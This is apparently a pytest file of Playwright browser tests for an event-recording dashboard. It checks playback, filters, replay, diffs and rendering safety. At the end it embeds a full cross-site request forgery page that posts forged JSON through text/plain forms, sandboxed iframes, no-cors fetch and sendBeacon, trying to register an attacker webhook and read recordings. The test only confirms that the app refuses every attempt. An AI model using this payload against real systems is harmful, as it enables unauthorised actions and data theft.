"""End-to-end tests in a real browser: Debian's chromium, headless, driven by playwright, against
the app on a loopback port (and an attacker's page on a second loopback origin).

Every page visited leaves a screenshot under tests/web/artifacts/ (ignored by git).
"""
from __future__ import annotations

import json
import os
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest
from webtools import START_NS, make_demo

from evlog.segments import Log
from evlog.web.catalog import CATALOG_FILE

pytestmark = pytest.mark.browser

CHROMIUM = os.environ.get("EVLOG_CHROMIUM", "/usr/bin/chromium")
ARTIFACTS = os.path.join(os.path.dirname(__file__), "artifacts")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
VIEWPORT = {"width": 1400, "height": 900}


def _why_no_browser() -> str | None:
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        return "the playwright package is not installed (pip install -e '.[test]')"
    if not os.path.exists(CHROMIUM):
        return f"{CHROMIUM} is missing and could not be installed (run scripts/install-test-deps.sh)"
    return None


@pytest.fixture(scope="module")
def browser():
    reason = _why_no_browser()
    if reason:
        pytest.skip(reason)
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=ARGS)
        yield b
        b.close()


@pytest.fixture
def context(browser):
    ctx = browser.new_context(viewport=VIEWPORT, accept_downloads=True)
    yield ctx
    ctx.close()


@pytest.fixture
def page(context):
    pg = context.new_page()
    errors: list[str] = []
    pg.on("pageerror", lambda e: errors.append(str(e)))
    pg.errors = errors
    yield pg
    pg.close()


def shot(page, name: str) -> None:
    os.makedirs(ARTIFACTS, exist_ok=True)
    page.screenshot(path=os.path.join(ARTIFACTS, name + ".png"))


def open_detail(page, live_server, name: str = "demo", query: str = "") -> None:
    page.goto(f"{live_server.url}/recording/{name}{query}")
    page.wait_for_selector("body[data-ready=yes]", timeout=20000)


def current(page) -> int | None:
    v = page.evaluate("() => { const tr = document.querySelector('#timeline tr.current'); return tr ? +tr.dataset.offset : null; }")
    return v


def root_of(live_server) -> str:
    return live_server.app.extensions["evlog_catalog"].root


class Hook(BaseHTTPRequestHandler):
    """A webhook target: records what it receives, optionally slowly."""
    received: ClassVar[list] = []
    delay: ClassVar[float] = 0.0

    def do_POST(self):  # noqa: N802
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        type(self).received.append(body)
        if type(self).delay:
            time.sleep(type(self).delay)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *a):
        pass


@pytest.fixture
def hook():
    Hook.received, Hook.delay = [], 0.0
    srv = ThreadingHTTPServer(("127.0.0.1", 0), Hook)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv
    srv.shutdown()
    srv.server_close()


# the list ------------------------------------------------------------------------------
def test_list_is_rendered_on_the_server_and_enhanced(browser, page, live_server):
    ctx = browser.new_context(viewport=VIEWPORT, java_script_enabled=False)
    nojs = ctx.new_page()
    nojs.goto(live_server.url + "/")
    assert nojs.locator("#recordings tbody tr[data-name=demo] a").get_attribute("href") == "/recording/demo"
    assert nojs.text_content("#st-count").strip() == "3" and "300" in nojs.inner_text("#recordings tbody tr[data-name=demo]")
    shot(nojs, "list-nojs")
    ctx.close()
    page.goto(live_server.url + "/")
    page.wait_for_selector("body[data-ready=yes]")
    page.fill("#search", "old")
    assert page.locator("#recordings tbody tr").count() == 1
    page.fill("#search", "")
    page.click("th[data-sort=total_events]")
    assert page.locator("#recordings tbody tr").first.get_attribute("data-name") == "hostile"
    shot(page, "list")
    assert not page.errors


# the playback view ----------------------------------------------------------------------------
def test_layout_shows_25_rows_at_1400x900(page, live_server):
    make_demo(root_of(live_server), "long", n=1500)
    open_detail(page, live_server, "long")
    box = page.evaluate("""() => {
        const s = document.getElementById('timeline-scroll').getBoundingClientRect();
        const rows = [...document.querySelectorAll('#timeline tbody tr')].filter(tr => {
            const b = tr.getBoundingClientRect(); return b.top >= s.top && b.bottom <= Math.min(s.bottom, innerHeight); });
        const insp = document.getElementById('inspector').getBoundingClientRect();
        return {top: s.top, rows: rows.length, inspector: insp.width, width: innerWidth};
    }""")
    assert box["rows"] >= 25, box
    assert box["top"] < 300, box
    assert box["inspector"] <= 0.3 * box["width"], box
    assert page.text_content("#ev-title") == "BotMonitoringCycleStarted"   # the playhead starts on the first event
    shot(page, "playback")
    assert not page.errors


def test_keyboard_moves_one_playhead_and_the_url_keeps_it(page, live_server):
    open_detail(page, live_server)
    for _ in range(3):
        page.keyboard.press("j")
    page.wait_for_function("() => +document.querySelector('#timeline tr.current').dataset.offset === 3")
    page.keyboard.press("k")
    page.wait_for_function("() => +document.querySelector('#timeline tr.current').dataset.offset === 2")
    assert page.input_value("#rp-seek") == "2"
    title = page.text_content("#ev-title")
    assert title == page.text_content("#timeline tr.current td.name")
    page.wait_for_function("() => location.search.includes('offset=2')")
    x = page.get_attribute("#chart-time line.cursor", "x1")
    page.keyboard.press("ArrowRight")   # next page: the playhead moves to its first event
    page.wait_for_function("() => +document.querySelector('#timeline tr.current').dataset.offset === 100")
    assert float(page.get_attribute("#chart-time line.cursor", "x1")) > float(x)
    page.keyboard.press("k")            # back across the page boundary
    page.wait_for_function("() => +document.querySelector('#timeline tr.current').dataset.offset === 99")
    page.keyboard.press("End")
    page.wait_for_function("() => +document.querySelector('#timeline tr.current').dataset.offset === 299")
    page.goto(f"{live_server.url}/recording/demo?offset=42")   # a deep link
    page.wait_for_selector("body[data-ready=yes]")
    assert current(page) == 42 and page.is_visible("#timeline tr.current")
    assert page.text_content("#ev-meta").startswith("#42 ")
    assert not page.errors


def test_deep_linked_filter_counts_and_exports(page, live_server):
    open_detail(page, live_server, query="?filter=PositionSold&offset=50")
    names = page.locator("#timeline tbody td.name").all_inner_texts()
    assert names and set(names) == {"PositionSold"}
    assert page.input_value("#filter") == "PositionSold"
    c = live_server.app.test_client()
    sold = c.get("/api/v1/recording/demo/summary").json["names"]["PositionSold"]
    page.wait_for_function(f"() => document.getElementById('match-count').textContent === '{sold} matches'")
    assert current(page) >= 50
    href = page.get_attribute("#exp-jsonl", "href")
    assert "filter=PositionSold" in href
    with page.expect_download() as dl:
        page.click("#exp-jsonl")
    lines = open(dl.value.path()).read().splitlines()
    assert len(lines) == sold and all(json.loads(x)["event_name"] == "PositionSold" for x in lines)
    page.fill("#filter", "data.x ==")
    page.wait_for_function("() => document.getElementById('filter').classList.contains('bad')")
    assert "column" in page.text_content("#filter-msg")
    shot(page, "filtered")
    assert not page.errors


def test_a_rare_filter_says_the_scan_is_partial_and_continues(page, live_server):
    from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
    path = os.path.join(root_of(live_server), "haystack")
    with Log.create(path, "haystack", fsync="never") as log:
        log.append_batch([("Tick", {"i": i, "rare": i == 39_990}, "s") for i in range(40_000)])
    live_server.app.config["EVLOG_SCAN_BUDGET_S"] = 0.05
    open_detail(page, live_server, "haystack", "?filter=data.rare == true")
    page.wait_for_function("() => !document.getElementById('filter-continue').hidden", timeout=20000)
    msg = page.text_content("#filter-msg")
    assert "partial" in msg and "no matching" not in msg
    assert page.locator("#timeline tbody tr").count() == 0
    shot(page, "partial-scan")
    button = page.locator("#filter-continue")
    for _ in range(2000):   # continue each partial scan until the match is drawn (a continued
        if page.locator("#timeline tbody tr").count():   # scan hides the button while it runs)
            break
        if button.is_visible():
            try:
                button.click(timeout=2000)
            except PlaywrightTimeoutError:   # hidden again between the look and the click
                pass
        page.wait_for_timeout(30)
    page.wait_for_selector("#timeline tbody tr[data-offset='39990']", timeout=20000)
    page.wait_for_function("() => document.getElementById('match-count').textContent === '1 match'", timeout=30000)
    assert not page.errors


def test_collapsible_json_and_copy_path(page, live_server):
    open_detail(page, live_server)
    tree = page.locator("#ev-tree details[data-path='data.pairs']")
    assert tree.get_attribute("open") is not None
    tree.locator("summary").first.click()
    assert tree.get_attribute("open") is None
    tree.locator("summary").first.click()
    leaf = page.locator("#ev-tree .leaf[data-path='data.pairs[1]']")
    assert '"ETH/USDT"' in leaf.inner_text()
    leaf.hover()
    leaf.locator("button.copy").click()
    page.wait_for_selector("#toast:has-text('data.pairs[1]')")
    assert not page.errors


def test_replay_drives_the_playhead_and_seek_while_paused_holds(page, live_server):
    open_detail(page, live_server)
    page.evaluate("document.getElementById('rp-speed').value = Math.log10(5)")
    page.dispatch_event("#rp-speed", "input")
    page.keyboard.press(" ")
    page.wait_for_function("() => document.getElementById('replay').dataset.state === 'playing'")
    page.wait_for_function("() => +(document.querySelector('#timeline tr.current') || {dataset: {offset: 0}}).dataset.offset > 5",
                           timeout=15000)
    assert "target 5x" in page.text_content("#rp-status")
    shot(page, "replay")
    page.keyboard.press(" ")
    page.wait_for_function("() => document.getElementById('replay').dataset.state === 'paused'")
    for _ in range(4):
        page.keyboard.press("j")
    page.wait_for_timeout(300)
    here = current(page)
    page.wait_for_timeout(1200)                 # polls arrive meanwhile: no snap back
    assert current(page) == here
    rid = live_server.app.extensions["evlog_replays"].latest().id
    st = live_server.app.test_client().get(f"/api/v1/replay/{rid}/status").json
    assert st["position"] == here and st["state"] == "paused"
    page.click("#rp-step")
    page.wait_for_function(f"() => +document.querySelector('#timeline tr.current').dataset.offset >= {here}")
    page.click("#rp-stop")
    page.wait_for_function("() => document.getElementById('replay').dataset.state === 'stopped'")
    assert not page.errors


def test_behind_schedule_shows_the_achieved_rate(page, live_server, hook):
    Hook.delay = 0.02                                  # the endpoint takes 20 ms per event
    path = os.path.join(root_of(live_server), "dense")
    with Log.create(path, "dense", start_time_ns=START_NS, fsync="never") as log:
        for i in range(3000):                          # one event per ms: 100x asks for 100,000 events/s
            log.append("Tick", {"i": i}, "s", timestamp=START_NS + i * 10**6, monotonic=i * 10**6)
    open_detail(page, live_server, "dense")
    page.select_option("#rp-target", "url")
    page.fill("#rp-url", f"http://127.0.0.1:{hook.server_port}/hook")
    page.evaluate("document.getElementById('rp-speed').value = 2")
    page.dispatch_event("#rp-speed", "input")
    page.click("#rp-play")
    page.wait_for_selector("#rp-behind:not([hidden])", timeout=15000)
    text = page.text_content("#rp-behind")
    achieved = float(text.split(":")[1].split("x")[0])   # ~0.05x: 1 ms of recording per 20 ms post
    assert achieved < 10 and "of 100x" in text
    assert "achieved" in page.text_content("#rp-status") and "target 100x" in page.text_content("#rp-status")
    shot(page, "behind-schedule")
    page.click("#rp-stop")
    assert not page.errors


def test_create_recording_double_click_creates_once(page, live_server):
    open_detail(page, live_server)
    rows = page.locator("#timeline tbody tr")
    rows.nth(2).locator("input[type=checkbox]").click()
    rows.nth(5).locator("input[type=checkbox]").click()
    rows.nth(8).locator("input[type=checkbox]").click(modifiers=["Shift"])   # range 5..8
    assert "5 events selected" in page.text_content("#sel-info")
    page.fill("#sel-name", "picked")
    page.dblclick("#sel-create")
    page.wait_for_selector("#created-link")
    assert "error" not in (page.get_attribute("#toast", "class") or "")
    root = root_of(live_server)
    assert [n for n in os.listdir(root) if n.startswith("picked")] == ["picked"]
    with Log.open(os.path.join(root, "picked")) as log, Log.open(os.path.join(root, "demo")) as src:
        assert [r.data for r in log.read()] == [r.data for r in src.read() if r.offset in (2, 5, 6, 7, 8)]
    shot(page, "created")
    assert not page.errors


def test_a_damaged_recording_stops_polling_and_hides_server_paths(page, live_server):
    root = root_of(live_server)
    with open(os.path.join(root, "broken.json"), "w") as f:
        f.write("{ not json")
    seen: list[str] = []
    page.on("request", lambda r: seen.append(r.url))
    page.goto(f"{live_server.url}/recording/broken.json")
    page.wait_for_selector("body[data-ready=error]", timeout=10000)
    banner = page.text_content("#rec-error")
    assert "broken.json" in banner and root not in banner and "/tmp" not in banner
    page.wait_for_timeout(3500)
    assert sum("/summary" in u for u in seen) == 1
    shot(page, "damaged")
    assert not page.errors


def test_causation_chain(page, live_server):
    path = os.path.join(root_of(live_server), "orders")
    rows = [("Noise", {"i": 0}, None, None, None),
            ("OrderPlaced", {"event_id": "a"}, "c1", None, "Api"),
            ("Noise", {"i": 1}, None, None, None),
            ("RiskChecked", {"event_id": "b"}, "c1", "a", "Risk"),
            ("OrderFilled", {"event_id": "c"}, "c1", "b", "Exchange"),
            ("Other", {"event_id": "z"}, "c2", None, "Api"),
            ("Notified", {"event_id": "d"}, "c1", "a", "Mail")]
    with Log.create(path, "orders", start_time_ns=START_NS) as log:
        for i, (name, data, corr, cause, src) in enumerate(rows):
            if corr:
                data = dict(data, correlation_id=corr, **({"causation_id": cause} if cause else {}))
            log.append(name, data, src or "s", timestamp=START_NS + i * 10**6, monotonic=i * 10**6)
    open_detail(page, live_server, "orders", "?offset=4")
    page.wait_for_selector("#chain:not([hidden]) #chain-list li")
    items = page.locator("#chain-list li")
    assert [int(x) for x in items.evaluate_all("els => els.map(e => e.dataset.offset)")] == [1, 3, 4, 6]
    depths = items.evaluate_all("els => els.map(e => e.style.getPropertyValue('--depth'))")
    assert depths == ["0", "1", "2", "1"]
    assert "current" in items.nth(2).get_attribute("class")
    items.nth(3).click()
    page.wait_for_function("() => +document.querySelector('#timeline tr.current').dataset.offset === 6")
    shot(page, "chain")
    page.keyboard.press("k")   # another correlation id: its own chain
    page.wait_for_function("() => [...document.querySelectorAll('#chain-list li')].map(li => li.dataset.offset).join() === '5'")
    page.keyboard.press("Home")   # an event with no correlation id: no chain
    page.wait_for_function("() => document.getElementById('chain').hidden")
    # format v2: the ids in the per-event headers, shown in the inspector too
    with Log.create(os.path.join(root_of(live_server), "orders_v2"), "orders_v2", start_time_ns=START_NS) as log:
        log.append("OrderPlaced", {"qty": 2}, "Api", headers={"event_id": "a", "correlation_id": "k"})
        log.append("OrderFilled", {"qty": 2}, "Exchange", headers={"event_id": "b", "correlation_id": "k",
                                                                    "causation_id": "a"})
    open_detail(page, live_server, "orders_v2", "?offset=1")
    page.wait_for_selector("#chain:not([hidden]) #chain-list li")
    assert page.locator("#chain-list li").evaluate_all("els => els.map(e => e.dataset.offset)") == ["0", "1"]
    assert page.locator("#ev-tree details[data-path='headers']").count() == 1
    shot(page, "chain-headers")
    assert not page.errors


def test_live_recording_shows_new_events(page, live_server):
    client = live_server.app.test_client()
    name = client.post("/api/record/start", json={"session_name": "livetest"}).json["recording"]
    client.post("/api/record/event", json={"event_name": "First"})
    open_detail(page, live_server, name)
    assert page.is_visible("#live-badge")
    client.post("/api/record/event", json={"events": [{"event_name": "Arrived", "event_data": {"n": 2}}]})
    page.wait_for_selector("#timeline td.name:text('Arrived')", timeout=10000)
    client.post("/api/record/stop", json={})


def test_recorded_script_does_not_execute(page, live_server):
    open_detail(page, live_server, "hostile")
    page.locator("#timeline tbody tr").nth(2).click()
    assert "<script>" in page.text_content("#ev-tree")
    assert "<script>" in page.text_content("#timeline tbody tr:nth-child(3) td.name")
    page.goto(live_server.url + "/")
    page.wait_for_selector("#recordings tbody tr[data-name=hostile]")
    page.goto(f"{live_server.url}/recording/hostile")
    page.wait_for_selector("body[data-ready=yes]")
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned === undefined")
    assert page.locator("#timeline img, #ev-tree img").count() == 0


# diff --------------------------------------------------------------------------------------------
def test_diff_streams_and_goes_from_difference_to_difference(page, live_server):
    root = root_of(live_server)
    make_demo(root, "planted", change_at=40)
    page.goto(f"{live_server.url}/diff?a=demo&b=planted")
    page.wait_for_selector("body[data-diff=finished]", timeout=20000)
    cells = page.locator(".diff .cell.change")
    assert cells.count() == 2 and "#40" in cells.nth(0).inner_text()
    marked = page.locator(".diff .cell.change .f.changed")
    assert marked.count() == 2 and "planted" in marked.nth(1).inner_text()
    assert "1 changed" in page.text_content("#diff-summary")
    assert page.locator(".diff .cell.equal").count() == 2 * (3 + 3 + 3 + 3)
    folds = page.locator(".diff button.fold")
    assert folds.count() == 2 and "34 equal events" in folds.nth(0).inner_text()
    page.click("#diff-next")
    assert "focus" in cells.nth(0).get_attribute("class")
    assert "difference 1 of 1" in page.text_content("#diff-pos")
    shot(page, "diff")
    folds.nth(0).click()
    page.locator(".diff button.fold").nth(1).wait_for(state="detached")
    texts = page.locator(".diff .cell.equal .title").all_inner_texts()
    assert [t.split(" ")[0] for t in texts[:80:2]] == [f"#{i}" for i in range(40)]
    assert texts[1:80:2] == texts[:80:2]
    assert not page.errors


def _numbered(root: str, name: str, n: int, change_every: int | None) -> None:
    with Log.create(os.path.join(root, name), name, fsync="never") as log:
        log.append_batch([("E", {"v": i, "x": 1 if change_every and i % change_every == 7 else 0}, "s") for i in range(n)])


def test_diff_next_previous_keys_progress_and_cancel(page, live_server):
    from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
    root = root_of(live_server)
    _numbered(root, "base", 200_000, None)
    _numbered(root, "new", 200_000, 50)                  # 4,000 changed events
    page.goto(f"{live_server.url}/diff?a=base&b=new")
    page.wait_for_selector(".diff .cell.change", timeout=20000)   # the first differences, while it runs
    assert page.get_attribute("body", "data-diff") == "running" or page.locator(".diff .cell.change").count()
    page.keyboard.press("n")
    page.keyboard.press("n")
    page.wait_for_function("() => document.getElementById('diff-pos').textContent.startsWith('difference 2 of')")
    assert "#57 E" in page.locator(".diff .cell.focus").first.inner_text()
    page.keyboard.press("p")
    page.wait_for_function("() => document.getElementById('diff-pos').textContent.startsWith('difference 1 of')")
    if page.get_attribute("body", "data-diff") == "running":
        try:
            page.click("#diff-cancel", timeout=5000)
        except PlaywrightTimeoutError:   # the diff finished (the button went away) first
            pass
        page.wait_for_selector("body[data-diff=cancelled], body[data-diff=finished]", timeout=20000)
    if page.get_attribute("body", "data-diff") == "cancelled":
        assert "cancelled" in page.text_content("#diff-state")
    else:   # finished before the cancel: every difference was counted (the API test cancels for sure)
        assert page.get_attribute("body", "data-diff") == "finished"
        assert page.text_content("#diff-state").startswith("done in")
    shot(page, "diff-big")
    assert not page.errors


# time travel -------------------------------------------------------------------------------------
def test_time_travel_panel_shows_the_aggregate_then(page, live_server):
    pytest.importorskip("eventsourcing")
    from webtools import make_store
    ann, _ = make_store(root_of(live_server))
    open_detail(page, live_server, "bank")
    assert page.locator("#tt").is_visible()
    page.locator("#timeline tbody tr[data-offset='2']").click()
    page.wait_for_selector("#tt-meta:has-text('version 2')")
    assert ann in page.text_content("#tt-meta")
    assert '"amount": 10' in page.text_content("#tt-json") and '"owner": "ann"' in page.text_content("#tt-json")
    shot(page, "timetravel")
    assert not page.errors


# the attacker's page --------------------------------------------------------------------------------
ATTACK = """<!doctype html><html><body><h1>Totally harmless page</h1><script>
const T = %(target)s, HOOK = %(hook)s;
const posts = [
  ["/api/player/register", {player_endpoint: HOOK, consumer_name: "evil"}],
  ["/api/v1/player/register", {name: "evil", url: HOOK}],
  ["/api/replay/start/demo", {speed: 100}],
  ["/api/v1/replay/start/demo", {speed: 100, player: "all", url: HOOK}],
  ["/api/replay/execute/demo", {speed: 100}],
  ["/api/record/start", {session_name: "evil"}],
  ["/api/recording/create", {source_filename: "demo", new_session_name: "evil"}],
  ["/api/v1/recording/demo/slice", {name: "evil", all_matching: true}],
];
function plainForm(path, body) {   // a text/plain form whose body is the JSON above
  const json = JSON.stringify(body), cut = json.length - 2;
  return `<form method=POST enctype="text/plain" action="${T}${path}">` +
    `<input name='${json.slice(0, cut).replace(/'/g, "&#39;")}' value='${json.slice(cut)}'></form>` +
    `<scr` + `ipt>document.forms[0].submit()</scr` + `ipt>`;
}
let n = 0;
for (const [path, body] of posts) {
  for (const sandbox of ["allow-forms allow-scripts", null]) {   // Origin: null, then this origin
    const f = document.createElement("iframe");
    if (sandbox) f.setAttribute("sandbox", sandbox);
    f.srcdoc = plainForm(path, body);
    document.body.append(f);
  }
  for (const ct of ["text/plain", "application/x-www-form-urlencoded"]) {
    fetch(T + path, {method: "POST", mode: "no-cors", headers: {"Content-Type": ct}, body: JSON.stringify(body)})
      .catch(() => {}).finally(() => { n++; });
  }
  navigator.sendBeacon(T + path, JSON.stringify(body));
  // a sandboxed frame's fetch (Origin: null, no CORS preflight for text/plain)
  const g = document.createElement("iframe");
  g.setAttribute("sandbox", "allow-scripts");
  g.srcdoc = `<scr` + `ipt>fetch(${JSON.stringify(T + path)}, {method: "POST", mode: "no-cors", body: ${JSON.stringify(JSON.stringify(body))}})</scr` + `ipt>`;
  document.body.append(g);
}
// a read: the answer must not reach this page
fetch(T + "/api/recordings").then(r => r.text()).then(t => { window.stolen = t; }).catch(e => { window.stolen = "blocked"; });
setTimeout(() => { document.title = "done"; }, 2500);
</script></body></html>"""


def test_attack_page_on_another_origin_exfiltrates_nothing_and_creates_nothing(browser, live_server, hook):
    root = root_of(live_server)
    app = live_server.app
    ext = app.extensions
    before = sorted(n for n in os.listdir(root) if n != CATALOG_FILE)   # the listing's own metadata
    arrived: list[tuple[str, str, str | None, str | None]] = []

    @app.after_request
    def _log(resp):   # noqa: ANN001 - sees every request that reached the dashboard
        from flask import request
        if request.method == "POST":
            arrived.append((request.path, str(resp.status_code), request.headers.get("Origin"), request.mimetype))
        return resp
    hook_url = f"http://127.0.0.1:{hook.server_port}/steal"
    html = ATTACK % {"target": json.dumps(live_server.url), "hook": json.dumps(hook_url)}

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            data = html.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *a):
            pass
    evil = ThreadingHTTPServer(("127.0.0.2", 0), Attacker)       # a second loopback origin
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    ctx = browser.new_context(viewport=VIEWPORT)
    try:
        page = ctx.new_page()
        page.goto(f"http://127.0.0.2:{evil.server_port}/")
        page.wait_for_function("() => document.title === 'done'", timeout=20000)
        page.wait_for_timeout(1500)                               # let any replay that started deliver
        stolen = page.evaluate("() => window.stolen")
        shot(page, "attack")
    finally:
        ctx.close()
        evil.shutdown()
        evil.server_close()
    assert len(arrived) >= 16, arrived                           # the attempts did reach the dashboard...
    assert all(status in ("403", "415") for _, status, _, _ in arrived), arrived   # ...and every one was refused
    assert {o for _, _, o, _ in arrived} >= {"null", f"http://127.0.0.2:{evil.server_port}"}
    assert Hook.received == []                                   # nothing exfiltrated to the webhook
    assert sorted(n for n in os.listdir(root) if n != CATALOG_FILE) == before   # no recording created
    assert ext["evlog_players"].list() == []                     # no player
    assert ext["evlog_replays"].all() == [] and ext["evlog_sessions"].active() == []
    assert stolen in (None, "blocked") or "demo" not in stolen   # the read's answer stayed unreadable

